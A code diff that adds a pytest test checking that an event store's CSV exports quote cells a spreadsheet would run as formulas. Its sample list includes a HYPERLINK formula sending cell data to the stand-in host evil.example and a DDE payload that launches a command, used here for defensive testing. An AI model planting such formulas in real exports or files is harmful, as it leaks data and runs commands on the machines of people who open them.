@@ -20,6 +20,7 @@ import pytest
 from sqlalchemy import text
 from tests.conftest import Client, start_server
 from tests.fixtures.events import bulk_insert, generated_envelopes
+from tests.fixtures.payloads import canvas_event, envelope
 from tests.fixtures.server import run_cli
 
 from caliper_store.query.formats import export_columns
@@ -299,3 +300,39 @@ def test_a_failure_after_the_first_byte_cuts_the_connection_and_is_logged_once(
     assert log.count("export of /api/export cut after") == 1, log
     assert log.count("reading events failed") == 1, log
     assert "Traceback" not in log, log
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"details")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_exports_quote_cells_a_spreadsheet_would_run_as_formulas(
+    client: Client, store: Store, database_url: str, tmp_path: Path
+) -> None:
+    reader, _ = store.keys.create(label="analyst", now=NOW, scopes=("read",))
+    sent = []
+    for formula in FORMULAS:
+        event = canvas_event()
+        event["extensions"]["com.instructure.canvas"]["user_sis_id"] = formula
+        sent.append(event)
+    assert client.post(envelope(sent)).status_code == 200
+    over_http = client.http.get("/api/export", params={"format": "csv"}, headers=bearer(reader))
+    assert over_http.status_code == 200
+    target = tmp_path / "events.csv"
+    done = run_cli("export", "--format", "csv", "-o", str(target), "--database", database_url)
+    assert done.returncode == 0, done.stderr
+    for text_form in (over_http.content.decode(), target.read_bytes().decode()):
+        rows = list(csv.DictReader(io.StringIO(text_form, newline="")))
+        by_id = {row["event_id"]: row for row in rows}
+        for event, formula in zip(sent, FORMULAS, strict=True):
+            row = by_id[event["id"]]
+            assert row["actor_external_id"] == "'" + formula
+            # The raw column is the event as sent, JSON text that starts with "{".
+            assert orjson.loads(row["raw"]) == event
+            assert row["api_key_id"] == "1"
